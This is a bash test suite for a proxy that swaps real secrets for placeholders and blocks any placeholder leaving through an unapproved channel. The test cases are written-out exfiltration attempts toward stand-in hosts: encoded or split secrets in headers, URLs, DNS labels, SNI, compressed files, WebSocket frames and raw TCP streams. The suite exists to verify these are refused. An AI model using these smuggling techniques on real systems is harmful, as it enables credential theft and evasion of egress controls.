#!/bin/bash
# suite: test=user soak=root,user timeout=400
# tier: what is searched for does not depend on who runs the keeper, so test runs it once
# custody_tripwire.sh - a placeholder anywhere but in its slot and at its place: refused before it leaves, told in one
# sentence, an alarm in the log. What passes on purpose (a conversation with a model) is flagged once.
set -u
cd "$(dirname "$0")/.." || exit 1
. tests/lib.sh
. tests/lib_door.sh
door_needs custody_tripwire curl openssl /usr/bin/python3
door_trial 'DNS:*.home.test,DNS:*.other.test,DNS:api.anthropic.com'
cp tests/custody/forms_client.py "$work/ws/"
export KEY=fake-Tripwire-Value-Of-40-Characters-0001 SHORT=fakeShortValue0002 PARTS=fakeSecondValue00000003
door_box t1 --allow "* *.home.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" --allow "* *.other.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" \
	--allow "* two.other.test:443 to=127.0.0.1:${h2:-$h1} ca=$work/ca.pem" --allow "* api.anthropic.com:443 to=127.0.0.1:$h1 ca=$work/ca.pem" \
	--allow "* *.home.test:80 to=127.0.0.1:$plain" --allow "tcp raw.other.test:7000 to=127.0.0.1:$tcp" \
	--secret "KEY from env at *.home.test as bearer" --secret "SHORT from env at *.home.test as header x-api-key" \
	--secret "PARTS from env at x.home.test as basic" >"$work/start" 2>&1
check "the box starts" $? "$(cat "$work/start")"
key=$(in_box t1 printenv KEY)
short=$(in_box t1 printenv SHORT)
[ ${#key} = ${#KEY} ] && [ "$key" != "$KEY" ]
check "it has placeholders" $? "$key"

alarms() { "$ostiary" log t1 --json 2>/dev/null | grep -c '"kind":"alarm"'; }
# refused NAME COMMAND...: it is refused, told and logged; nothing of it reached an origin.
refused() {
	local name=$1 got before after
	shift
	before=$(alarms)
	got=$("$@" 2>&1)
	case $got in *"placeholder of secret"*403* | 403*"placeholder of secret"* | *closed* | *close*"placeholder"*) true ;; *) false ;; esac
	check "$name" $? "$got"
	after=$(alarms)
	[ "$after" -gt "$before" ]
	check "$name: alarm" $? "$before, then $after"
}
passes() {
	local name=$1 got before
	shift
	before=$(alarms)
	got=$("$@" 2>&1)
	case $got in *"200"*) true ;; *) false ;; esac
	check "$name" $? "$got"
	same "$name: no alarm" "$(alarms)" "$before"
}
curl_box() { in_box t1 curl -s -m 60 -w ' %{http_code}' "$@"; }
client() { in_box t1 /usr/bin/python3 forms_client.py "$@"; }
b64() { printf '%s' "$1" | base64 -w0; }
hexed() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
coded() { python3 -c 'import sys; k, t = sys.argv[1:]; print("".join({"p": "%%%02x", "u": "\\u%04x", "h": "&#%d;", "o": "\\%03o", "b": "\\u{%x}"}[k] % ord(c) for c in t), end="")' "$1" "$2"; }

# --- controls ---------------------------------------------------------------------------------------

passes "control: in its slot, at its place" curl_box -H "Authorization: Bearer $key" https://a.home.test/
passes "control: without any" curl_box https://a.other.test/
passes "control: half of it is nothing" curl_box -H "X-Note: ${key:0:20}" https://a.other.test/
passes "control: another text of the same shape" curl_box -H "X-Note: fake-Tripwire-Value-Of-40-Characters-9999" https://a.other.test/

# --- heads ------------------------------------------------------------------------------------------

refused "another host" curl_box -H "Authorization: Bearer $key" https://b.other.test/
refused "another slot of the same host" curl_box -H "X-Api-Key: $key" https://b.home.test/
refused "two in one" curl_box -H "Authorization: Bearer $key" -H "X-Copy: $short" https://b.home.test/
refused "a header that comes back" curl_box -A "agent $key" https://b.home.test/
refused "no TLS" curl_box -H "Authorization: Bearer $key" http://b.home.test/
refused "the path" curl_box "https://b.other.test/x/$key/y"
refused "the query" curl_box "https://b.other.test/?q=$key"
refused "the query of its own host" curl_box "https://b.home.test/?q=$key"
refused "a cookie" curl_box -b "a=1; b=$key" https://b.other.test/
refused "the name of a header" curl_box -H "X-$(tr -d '_' <<<"$key"): 1" https://b.other.test/
refused "behind the token, in the same field" curl_box -H "Authorization: Bearer $key $key" https://b.home.test/
refused "the other half of basic" curl_box -u "$key:$(in_box t1 printenv PARTS)" https://x.home.test/
refused "the user part of a URL's basic" curl_box -u "me:$key" https://b.home.test/
for k in p u h o b; do refused "escaped letter by letter ($k)" curl_box -H "X-Note: $(coded $k "$key")" https://b.other.test/; done
refused "percent in the path" curl_box "https://b.other.test/$(coded p "$key")"
refused "percent of percent in the query" curl_box "https://b.other.test/?q=$(coded p "$key" | sed 's/%/%25/g')"
refused "hexadecimal" curl_box -H "X-Note: $(hexed "$key")" https://b.other.test/
refused "hexadecimal, large" curl_box -H "X-Note: $(hexed "$key" | tr a-f A-F)" https://b.other.test/
for lead in "" a ab; do refused "base64 behind ${#lead}" curl_box -H "X-Note: $(b64 "$lead$key-and-more")" https://b.other.test/; done
refused "base64 for URLs" curl_box "https://b.other.test/?q=$(b64 "??>$key??>" | tr '+/' '-_' | tr -d =)"
if [ -n "$h2" ]; then
	refused "HTTP/2: a header" curl_box -H "X-Note: $key" https://two.other.test/
	refused "HTTP/2: a body" curl_box --data-binary "some text $key" https://two.other.test/
else
	skip "HTTP/2" "python3-h2 is missing"
fi

# --- several secrets in one request -----------------------------------------------------------------

# rings NAME SECRETS COMMAND...: each of them is in the log, and no other. (Bytes that nobody read when a connection ends ring again.)
rings() {
	local name=$1 want=$2 before
	shift 2
	before=$(alarms)
	"$@" >/dev/null 2>&1
	same "$name" "$("$ostiary" log t1 --json 2>/dev/null | grep '"kind":"alarm"' | tail -n +$((before + 1)) | grep -o '"secrets":"[A-Z]*"' | sort -u | tr "\n" " ")" "$want"
}
both='"secrets":"KEY" "secrets":"SHORT" '
all='"secrets":"KEY" "secrets":"PARTS" "secrets":"SHORT" '
parts=$(in_box t1 printenv PARTS)
rings "two in two fields both ring" "$both" curl_box -H "X-One: $key" -H "X-Two: $short" https://b.other.test/
rings "three in a path, a query and a cookie" "$all" curl_box -b "a=$parts" "https://b.other.test/$short?q=$key"
rings "one beside one in its slot" '"secrets":"SHORT" ' curl_box -H "Authorization: Bearer $key" -H "X-Copy: $short" https://b.home.test/
rings "two in one body" "$both" client post b.other.test / text/plain "" 0 "a " @KEY " b " @SHORT " c"
rings "two in one body, toward a host that nobody allowed" "$both" client post nobody.unknown.test / text/plain "" 0 "a " @KEY " b " @SHORT " c"
rings "in pieces" "$both" client post nobody.unknown.test / text/plain "" 7 "a " @KEY " b " @SHORT " c"
rings "one in the head and one in the body" "$both" client post nobody.unknown.test "/?q=$key" text/plain "" 0 "a " @SHORT " b"
rings "in the head and in the body of a host that is allowed" "$both" client post b.other.test "/?q=$key" text/plain "" 0 "a " @SHORT " b"
rings "two in a compressed body" "$both" client post b.other.test / text/plain gzip 0 "a " @KEY " b " @SHORT " c"
rings "two in a raw stream" "$both" client tcp raw.other.test 4096 "a " @KEY " b " @SHORT
rings "two in a WebSocket message" "$both" client ws b.other.test / 4096 "a " @KEY " b " @SHORT
# Neither its first 32 nor its last 16 letters are in one part.
refused "thirds in three fields" curl_box -H "X-One: ${key:0:14}" -H "X-Two: ${key:14:14}" -H "X-Three: ${key:28}" https://b.other.test/
refused "thirds in three parameters" curl_box "https://b.other.test/?a=${key:0:14}&b=${key:14:14}&c=${key:28}"

# --- names ------------------------------------------------------------------------------------------

# A program that looks up many such names rings once a second.
next_second() { sleep 1.1; }
label=$(tr 'A-Z_' 'a-z-' <<<"$short")
refused "the name of a host" client lookup x "$label.other.test"
next_second
refused "across labels" client lookup x "${label:0:9}.${label:9}.other.test"
next_second
refused "base32 in labels" client lookup x "$(printf '%s' "$short" | base32 -w0 | tr -d = | tr A-Z a-z).other.test"
next_second
refused "hexadecimal in labels" client lookup x "$(hexed "$short").other.test"
refused "SNI" client sni 192.0.2.7 "$label.other.test"

# --- bodies -----------------------------------------------------------------------------------------

text=text/plain
refused "a body" client post b.other.test / $text "" 0 "before " @KEY " after"
refused "a body of its own host" client post b.home.test / $text "" 0 "before " @KEY " after"
for step in 1 7; do refused "a body in chunks of $step" client post b.other.test / $text "" $step "before " @KEY " after"; done
refused "a form" client post b.other.test / application/x-www-form-urlencoded "" 3 "a=1&b=" @f:KEY
refused "JSON, letter by letter" client post b.other.test / application/json "" 5 '{"a":"' "$(coded u "$key")" '"}'
for coding in gzip deflate "gzip, gzip"; do
	refused "a body in $coding" client post b.other.test / $text "$coding" 0 "before " @KEY " after"
	refused "a body in $coding, in pieces" client post b.other.test / $text "$coding" 3 "before " @KEY " after"
done
for coding in br zstd; do
	case $coding in br) module=brotli ;; *) module=zstandard ;; esac
	if /usr/bin/python3 -c "import $module" 2>/dev/null; then
		refused "a body in $coding" client post b.other.test / $text $coding 5 "before " @KEY " after"
	else
		skip "a body in $coding" "python's $module is not installed"
	fi
done
for kind in gzip zlib zip zip-stored tgz multipart zip-in-gzip; do
	refused "a file of $kind" client post b.other.test / application/octet-stream "file:$kind" 0 "before " @KEY " after"
	refused "a file of $kind, in pieces" client post b.other.test / application/octet-stream "file:$kind" 3 "before " @KEY " after"
	passes "control: a file of $kind without any" client post c.other.test / application/octet-stream "file:$kind" 5 "before " nothing " after"
done
refused "a file of gzip to a host that nobody allowed" client post nobody.unknown.test / application/octet-stream file:tgz 0 "before " @KEY
refused "the end of a large file of gzip" client large b.other.test / application/octet-stream file:tgz 4000 3000000 "@@ " @KEY " @@"
passes "control: a large file of gzip without any" client large c.other.test / application/octet-stream file:tgz 4000 3000000 "@@ " nothing " @@"
got=$(client post b.other.test / $text snappy 0 "whatever")
holds "a coding that nobody knows is refused" "$got" "415"
holds "with a sentence" "$got" "cannot be read here"
refused "base64 in a body, in pieces" client post b.other.test / $text "" 5 "x: " "$(b64 "zz$key")" " y"
refused "the end of a long body" client large b.other.test / $text "" 8000 2000000 "@@ " @KEY ""
refused "the middle of a long compressed one" client large b.other.test / $text gzip 4000 3000000 "@@ " @KEY " @@"
refused "a trailer" client trailer b.other.test @KEY
refused "a WebSocket message" client ws b.other.test / 4096 "hello " @KEY
refused "a WebSocket message in fragments" client ws b.other.test / 3 "hello " @KEY " more"
refused "halves in two WebSocket messages" client messages b.other.test / 20 @KEY
refused "a letter in each WebSocket message" client messages b.other.test / 1 @KEY
refused "the head of a WebSocket" client get b.other.test / "upgrade: websocket" "connection: Upgrade" "sec-websocket-version: 13" \
	"sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==" "x-note: $key"
passes "control: a long compressed body without any" client large c.other.test / $text gzip 4000 3000000 "@@ " "nothing" " @@"
refused "a raw stream" client tcp raw.other.test 4096 "hello " @KEY
refused "a raw stream in pieces" client tcp raw.other.test 3 "hello " @KEY " more"
got=$(client tcp raw.other.test 4096 "nothing secret" 2>&1)
same "control: a raw stream without any" "$got" "got nothing secret"

# --- models -----------------------------------------------------------------------------------------

before=$(alarms)
got=$(client post api.anthropic.com /v1/messages application/json "" 0 '{"messages":[{"role":"user","content":"my key is ' @KEY '"}]}')
holds "a conversation with a model passes" "$got" "200"
same "and is flagged" "$(alarms)" $((before + 1))
got=$(client post api.anthropic.com /v1/messages application/json "" 7 '{"messages":[{"role":"user","content":"my key is ' @KEY '"}]}')
holds "and passes again" "$got" "200"
same "without a second flag" "$(alarms)" $((before + 1))
refused "but not in the head of such a request" curl_box -H "X-Note: $key" https://api.anthropic.com/v1/messages

# --- credentials that are none of ours --------------------------------------------------------------

for field in "Authorization: Bearer of-somebody-else-0000" "X-Api-Key: of-somebody-else-0000" "Authorization: Basic bWU6b2Ytc29tZWJvZHktZWxzZQ==" \
	"X-Goog-Api-Key: of-somebody-else-0000"; do
	got=$(curl_box -H "$field" https://d.home.test/)
	holds "on a managed host, not ours: ${field%%:*}" "$got" " 403"
	holds "${field%%:*}: with a way out" "$got" "the word inject"
done
got=$(curl_box "https://d.home.test/?access_token=of-somebody-else-0000")
holds "in a query" "$got" " 403"
passes "elsewhere it is nobody's business" curl_box -H "Authorization: Bearer of-somebody-else-0000" https://d.other.test/

# --- what the origins saw ---------------------------------------------------------------------------

! grep -aqF -e "$key" -e "$short" -e "$(hexed "$key")" -e "$(b64 "$key-and-more")" "$work"/seen/received-[b-z]* "$work"/seen/received-*other*
check "no placeholder reached an origin that it was not meant for" $?
grep -aqF "$key" "$work/seen/received-api.anthropic.com"
check "control: the search finds what a model was told" $?
! grep -aq of-somebody-else-0000 "$work/seen/received-d.home.test" 2>/dev/null
check "no foreign credential reached a managed host" $?
log=$("$ostiary" log t1 --json 2>&1)
! grep -qF -e "$KEY" -e "$SHORT" <<<"$log"
check "the log has no value" $?
holds "an alarm names the secret" "$(grep '"kind":"alarm"' <<<"$log" | head -1)" '"secrets":"KEY"'
holds "and where it belongs" "$(grep '"kind":"alarm"' <<<"$log" | head -1)" '*.home.test'
exit $bad
